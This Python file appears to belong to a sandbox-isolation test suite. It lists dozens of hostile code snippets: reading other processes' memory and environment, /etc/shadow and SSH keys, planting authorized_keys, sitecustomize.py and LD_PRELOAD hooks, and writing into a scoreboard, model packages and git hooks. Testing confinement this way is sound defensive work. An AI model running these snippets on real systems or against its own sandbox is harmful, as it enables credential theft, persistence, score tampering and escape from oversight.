"""What hostile code tries with files: to read what is private, and to write what is not its own.

They use the names of `attacks.PRELUDE`.
"""

# ruff: noqa: E501 - the lines are those of the attacks.

from __future__ import annotations

READS = {
    "environ of all": 'each(os.listdir("/proc"), lambda p: read(f"/proc/{p}/environ"))',
    "environ of the command": "read(f\"/proc/{T['command']}/environ\")",
    "environ of the parent": 'read(f"/proc/{os.getppid()}/environ")',
    "environ of init": 'read("/proc/1/environ")',
    "memory of the command": """
m = [l.split()[0] for l in open(f"/proc/{T['command']}/maps") if "[heap]" in l or "[stack]" in l]
f = os.open(f"/proc/{T['command']}/mem", os.O_RDONLY)
for r in m:
    a, b = (int(x, 16) for x in r.split("-")); got(os.pread(f, b - a, a))""",
    "memory by process_vm_readv": """
class V(ctypes.Structure): _fields_ = [("a", ctypes.c_void_p), ("n", ctypes.c_size_t)]
b = ctypes.create_string_buffer(1 << 16); l, r = V(ctypes.addressof(b), 1 << 16), V(0x10000, 1 << 16)
for p in (T["victim"], T["command"], os.getppid(), 1):
    got(LIBC.process_vm_readv(p, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)); got(b.raw)""",
    "ptrace": """
for p in (T["victim"], T["command"], os.getppid(), 1):
    if LIBC.ptrace(16, p, 0, 0) == 0: got("traced"); put(T["home"] + "/traced")""",
    "descriptors of the command": """
base = f"/proc/{T['command']}/fd"
each(os.listdir(base), lambda n: read(f"{base}/{n}"))""",
    "pidfd_getfd": """
for p in (T["victim"], T["command"], 1):
    d = LIBC.syscall(434, p, 0)
    for n in range(32):
        f = LIBC.syscall(438, d, n, 0)
        if f >= 0: put(T["home"] + "/stolen"); got(os.pread(f, 4096, 0))""",
    "private files": 'each(T["files"], read)',
    "cat": 'each(T["files"], lambda f: RUN("cat", f))',
    "shadow": 'read("/etc/shadow")',
    "home of root": 'each(os.scandir("/root"), lambda e: read(e.path))',
    "links": """
for n, f in enumerate(T["files"]):
    os.symlink(f, f"link{n}"); read(f"link{n}")""",
    "hard links": """
for n, f in enumerate(T["files"]):
    os.link(f, f"hard{n}"); read(f"hard{n}")""",
    "/proc/self/root": 'each(T["files"], lambda f: read("/proc/self/root" + f))',
    "/proc/1/root": 'each(T["files"], lambda f: read("/proc/1/root" + f))',
    "/proc/PID/cwd": """
each(T["files"], lambda f: read(f"/proc/{T['command']}/root" + f))
each(T["files"], lambda f: read("../" * 20 + f[1:]))""",
    "openat by O_PATH": """
d = os.open("/", os.O_PATH | os.O_DIRECTORY)
each(T["files"], lambda f: got(os.read(os.open(f[1:], os.O_RDONLY, dir_fd=d), 4096)))""",
    "handles": """
class H(ctypes.Structure): _fields_ = [("n", ctypes.c_uint), ("t", ctypes.c_int), ("h", ctypes.c_char * 128)]
h, m = H(128, 0, b""), ctypes.c_int()
LIBC.name_to_handle_at(-100, T["files"][0].encode(), ctypes.byref(h), ctypes.byref(m), 0)
f = LIBC.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(h), 0)
got(os.read(f, 4096))""",
    "inherited descriptors": """
for n in range(3, 256):
    try: got(os.readlink(f"/proc/self/fd/{n}")); got(os.pread(n, 1 << 16, 0)); read(f"/proc/self/fd/{n}")
    except OSError: pass""",
    "own environment": 'got(dict(os.environ)); read("/proc/self/environ")',
    "mount": """
LIBC.unshare(0x10020000); os.makedirs("m", exist_ok=True)
LIBC.mount(T["home"].encode(), b"m", None, 4096, None); read("m/.ssh/id_rsa")""",
    "kernel keys, dmesg": """
got(LIBC.syscall(250, 11, 0, 0)); b = ctypes.create_string_buffer(65536)
got(LIBC.klogctl(3, b, 65536)); got(b.raw)""",
    "hidden files of the tree": """
each([n for n in os.listdir(T["code"]) if n[0] == "."], lambda n: read(os.path.join(T["code"], n)))
each([".env", ".git/config"], lambda n: read(os.path.join(T["code"], n)))""",
    "io_uring": """
p = ctypes.create_string_buffer(120)
if LIBC.syscall(425, 8, p) >= 0: put(T["home"] + "/ring"); got("ring")""",
}

WRITES = {
    "append": 'each(T["files"], put)',
    "new files": """
each([T["home"] + "/.profile", T["home"] + "/.ssh/authorized_keys", T["folder"] + "/precious/new",
      T["code"] + "/sitecustomize.py", T["folder"] + "/worktree/other.py"], put)""",
    "truncate": 'each(T["files"], lambda f: os.truncate(f, 0))',
    "unlink": 'each(T["files"], os.unlink)',
    "rename": 'each(T["files"], lambda f: os.rename(f, f + ".old"))',
    "rename into": """
put("mine"); each(T["files"], lambda f: os.rename("mine", f))""",
    "link into": 'put("mine"); os.link("mine", T["home"] + "/linked")',
    "symlink into": 'os.symlink("/etc/passwd", T["home"] + "/linked")',
    "directories": 'os.mkdir(T["home"] + "/made"); os.rmdir(T["folder"] + "/worktree")',
    "chmod": 'each([T["home"], *T["files"]], lambda f: os.chmod(f, 0o777))',
    "fchmod by O_PATH": """
each(T["files"], lambda f: os.chmod(f"/proc/self/fd/{os.open(f, os.O_PATH)}", 0o777))""",
    "utime": 'each(T["files"], lambda f: os.utime(f, (1, 1)))',
    "chown": 'each(T["files"], lambda f: os.chown(f, 12345, 12345))',
    "attributes": 'each(T["files"], lambda f: os.setxattr(f, "user.mark", T["mark"].encode()))',
    "/proc/self/fd": """
for f in T["files"]:
    d = os.open(f, os.O_PATH); put(f"/proc/self/fd/{d}")""",
    "memfd and exec": """
f = os.memfd_create("run"); os.write(f, b"#!/bin/sh\\necho x >> " + T["files"][1].encode() + b"\\n")
os.set_inheritable(f, True)
RUN("/bin/sh", f"/proc/self/fd/{f}", close_fds=False); RUN(f"/proc/self/fd/{f}", close_fds=False)""",
    "shell": 'RUN("sh", "-c", f"echo x >> {T[\'files\'][1]}; touch {T[\'home\']}/shell")',
    "shared memory": 'put("/dev/shm/" + T["mark"])',
    "temporary directory": 'each(["/tmp", "/var/tmp", "/dev"], lambda d: put(d + "/" + T["mark"]))',
    "pipes and devices": """
os.mkfifo(T["home"] + "/pipe"); os.mknod(T["home"] + "/node", 0o20666, os.makedev(1, 3))""",
    "nameless files": """
f = os.open(T["home"], os.O_TMPFILE | os.O_RDWR); os.write(f, b"x")
os.link(f"/proc/self/fd/{f}", T["home"] + "/tmpfile", follow_symlinks=True)""",
    "packages": """
import luigi, model_gateway, self_improve
each([m.__path__[0] for m in (luigi, model_gateway, self_improve)], lambda p: put(p + "/" + T["mark"]))""",
    "data repo": """
each(["scores/scoreboard.csv", "history/x", "dataset.json", ".git/hooks/post-commit"],
     lambda n: put(T["lab"] + "/" + n))""",
    "preloaded library": """
os.environ["LD_PRELOAD"] = T["code"] + "/x.so"; os.environ["PYTHONSTARTUP"] = T["code"] + "/x.py"
RUN("touch", T["home"] + "/preloaded")""",
    "inherited descriptors, written": """
for n in range(3, 256):
    try: put(f"/proc/self/fd/{n}", "w")
    except OSError: pass""",
    "other cells": """
d = os.path.dirname(os.path.dirname(os.getcwd()))
each(os.listdir(d), lambda n: got(n)); each([d + "/x", d + "/.." + "/x"], put)""",
}
